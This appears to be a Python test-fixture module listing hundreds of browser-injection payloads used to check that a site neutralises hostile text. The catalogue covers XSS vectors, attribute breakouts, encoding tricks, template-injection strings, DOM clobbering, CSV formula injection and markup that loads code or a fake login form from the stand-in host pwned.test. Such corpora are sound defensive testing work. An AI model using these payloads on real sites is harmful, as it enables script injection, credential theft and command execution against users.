"""What hostile text tries in a browser, made for this site: every way that we know to get from text into a page.

Whatever runs sets `window.pwned`; whatever becomes an element carries an attribute or a tag that no page of ours has;
whatever loads something loads it from `pwned.test`. So that a test can tell that nothing of it happened.
"""

RUN = "pwned=1"
AWAY = "//pwned.test/x"

# Where the address of a link is taken from text. First, so that they stand at the beginning of a column.
LINKS = {
    "javascript": f"javascript:{RUN}",
    "javascript in capitals": f"JaVaScRiPt:{RUN}",
    "javascript behind a blank": f" javascript:{RUN}",
    "javascript with a tab": f"java\tscript:{RUN}",
    "javascript with a line end": f"java\nscript:{RUN}",
    "javascript behind a control": f"\x01javascript:{RUN}",
    "javascript escaped": f"&#106;avascript&colon;{RUN}",
    "javascript as a comment of an address": f"javascript://example.test/%0a{RUN}",
    "javascript with an address in it": f"javascript:{RUN}//https://github.com/a/b/pull/1",
    "data": f"data:text/html,<script>{RUN}</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "data as an image": f"data:image/svg+xml,<svg onload='{RUN}'/>",
    "vbscript": f"vbscript:{RUN}",
    "blob": "blob:https://pwned.test/x",
    "view-source": "view-source:https://pwned.test/",
    "another site without its scheme": AWAY,
    "another site by backslashes": r"\\pwned.test\x",
    "another site behind a name": "https://github.com@pwned.test/a/b/pull/1",
    "a link with a quote": f'https://github.com/a/b/pull/1" onmouseover="{RUN}" pwned="',
    "a link with an apostrophe": f"https://github.com/a/b/pull/1' autofocus onfocus='{RUN}' pwned='",
    "a link with a bracket": f"https://github.com/a/b/pull/1><script>{RUN}</script>",
}
SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script from elsewhere": f"<script src={AWAY}.js></script>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script that stays open": f"<script>{RUN}//",
    "script as a module": f"<script type=module>window.{RUN}</script>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a script's string": f"';{RUN};//\\';{RUN};//\";{RUN};//",
    "template literal": f"`${{{RUN}}}`",
}
HANDLERS = {
    "img onerror": f"<img src=x onerror={RUN}>",
    "img onerror with slashes": f"<img/src=x/onerror={RUN}>",
    "img that stays open": f"<img src=x onerror={RUN} x",
    "body onload": f"<body onload={RUN}>",
    "input autofocus": f"<input autofocus onfocus={RUN} pwned>",
    "details ontoggle": f"<details open ontoggle={RUN} pwned>",
    "video source": f"<video><source onerror={RUN}></video>",
    "marquee": f"<marquee onstart={RUN}>",
    "transition": f"<p style='transition:1ms;animation:x 1ms' onanimationstart={RUN} ontransitionend={RUN} pwned>",
    "hover over everything": f"<div style='position:fixed;inset:0;z-index:99' onmouseover={RUN} pwned></div>",
}
SVG = {
    "svg onload": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg set on a link": f"<svg><a><set attributeName=href to=javascript:{RUN}></set><text>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned=1></svg>#x'></use></svg>",
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "math link": f"<math href=javascript:{RUN} pwned>x</math>",
}
BREAKOUTS = {
    "out of double quotes": f'" onmouseover="{RUN}" pwned="',
    "out of single quotes": f"' onmouseover='{RUN}' pwned='",
    "out of backticks": f"` onmouseover=`{RUN}` pwned=`",
    "out of no quotes": f"x onmouseover={RUN} pwned",
    "out of an attribute and its tag": f"\"'><script>{RUN}</script>",
    "out of a title": f"</title><script>{RUN}</script>",
    "out of a textarea": f"</textarea><script>{RUN}</script>",
    "out of a style": f"</style><script>{RUN}</script>",
    "out of a comment": f"--><script>{RUN}</script><!--",
    "out of a select": f"</option></select><img src=x onerror={RUN}>",
    "out of a table": "</td></tr></table><b pwned>x</b>",
    "out of noscript": f"</noscript><img src=x onerror={RUN}>",
    "out of a datalist": f"</datalist><svg onload={RUN}>",
    "out of everything": f"'\"`--></style></title></textarea></script><svg/onload={RUN}>",
    "a comment that stays open": "<!-- pwned",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "processing instruction": f"<?xml version='1.0'?><script>{RUN}</script>",
}
ELEMENTS = {
    "iframe srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "iframe": f"<iframe src=javascript:parent.{RUN}></iframe>",
    "object": f"<object data=javascript:{RUN}></object>",
    "embed": f"<embed src={AWAY}.swf>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "base": f"<base href={AWAY}/>",
    "style sheet from elsewhere": f"<link rel=stylesheet href={AWAY}.css>",
    "preload": f"<link rel=preload as=image href={AWAY}.png>",
    "image from elsewhere": f"<img src={AWAY}.png pwned>",
    "form to elsewhere": f"<form action={AWAY} pwned><input name=p type=password><button>Log in</button></form>",
    "formaction": f"<button formaction=javascript:{RUN} pwned>Submit</button>",
    "link": f"<a href=javascript:{RUN} pwned>Look</a>",
    "ping": f"<a href=/ ping={AWAY} pwned>Look</a>",
    "dialog": "<dialog open pwned>Your session has ended</dialog>",
    "custom element": f"<x-pwned is=x-pwned onclick={RUN} tabindex=1 autofocus onfocus={RUN}>",
    "template element": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "plaintext": "<plaintext pwned>",
}
STYLES = {
    "style": f"<style>@import '{AWAY}.css';body{{display:none}}</style>",
    "style attribute": f"<p style='background:url({AWAY}.png)' pwned>x</p>",
    "css url": f"x;background:url({AWAY}.png)",
    "css expression": f"x;width:expression({RUN})",
    "css import": f"}}@import url({AWAY}.css);{{",
    "css var": f"--x:url(javascript:{RUN})",
}
TEMPLATES = {
    "django variable": "{{ request.user.password }}{{ 7|add:7 }}",
    "django tag": "{% load static %}{% include 'admin/base.html' %}{% debug %}",
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{0.__class__} %(pwned)s %s {pwned!r} {}",
    "angular": "{{constructor.constructor('pwned=1')()}}",
    "vue": f"<p v-html=x @click={RUN} :pwned=1>x</p>",
    "htmx": f"<p hx-get={AWAY} hx-trigger=load hx-on:load={RUN} pwned>x</p>",
    "site's own script hooks": f"<p data-poll={AWAY} data-preview={AWAY} data-submit data-theme-switch pwned>x</p>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "entities twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "url-encoded": f"%3Cscript%3E{RUN}%3C/script%3E",
    "json-escaped": f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
}
CLOBBER = {
    "dom clobbering": "<a id=pwned></a><form id=pwned name=pwned><input name=action><input name=submit></form>",
    "clobbered globals": "<img name=getElementById pwned><a id=location href=/ pwned></a><form name=forms></form>",
    "proto": "__proto__",
    "constructor": "constructor",
    "prototype in brackets": "__proto__[pwned]=1&constructor[prototype][pwned]=1",
    "to string": "toString",
    "has own property": "hasOwnProperty",
}
ENCODINGS = {
    "utf-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "full-width": f"＜script＞{RUN}＜/script＞",
    "small forms": f"﹤script﹥{RUN}﹤/script﹥",
    "long s": f"<ſcript>{RUN}</ſcript>",
    "kelvin sign": f"<lin\u212a rel=stylesheet href={AWAY}.css>",
    "overlong looking": f"%c0%bcscript%c0%be{RUN}",
    "bom": f"\ufeff<script>{RUN}</script>",
    "line separators": f"x\u2028{RUN}\u2029//",
    "next line": f"x\x85<script>{RUN}</script>",
    "vertical tab in a tag": f"<img\x0bsrc=x\x0conerror={RUN}>",
    "bidi override": "\u202egnp.gpj\u202d \u2066\u2067pwned\u2069 \u061c\u200f",
    "zero width": f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    "tags nobody sees": "".join(chr(0xE0000 + ord(char)) for char in RUN),
    "combining storm": "e" + "\u0301" * 60,
    "noncharacters": "\ufdd0\ufffe\uffff",
    "ansi": "\x1b[2J\x1b[31m\x1b]8;;https://pwned.test\x07x\x1b]8;;\x07\x1b]0;pwned\x07",
    "backspaces": "ok\b\b\b\x7fpwned",
    "carriage return": f"ok\r\n\r\n<script>{RUN}</script>",
}
LONG = {
    "a very long word": "W" * 2_000,
    "a long word of wide letters": "﷽" * 120,
    "many tags": "<b pwned>" * 200,
}
FORMULAS = {
    "formula": '=HYPERLINK("https://pwned.test","x")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-1+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a carriage return": "\r=1+1",
    "formula behind a line end": "\n=1+1",
    "formula in full width": "＝1+1",
    "a cell's end": '",=1+1,"',
}
# Only files hold these; a database refuses a NUL in text, and a lone surrogate has no encoding.
BYTES = {
    "nul": f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00<img src=x\x00 onerror={RUN}>",
}

SHORT: dict[str, str] = {
    **LINKS, **FORMULAS, **SCRIPTS, **HANDLERS, **SVG, **BREAKOUTS, **ELEMENTS, **STYLES, **TEMPLATES, **CLOBBER,
    **ENCODINGS,
}  # fmt: skip
ALL: dict[str, str] = {**SHORT, **LONG, **BYTES}
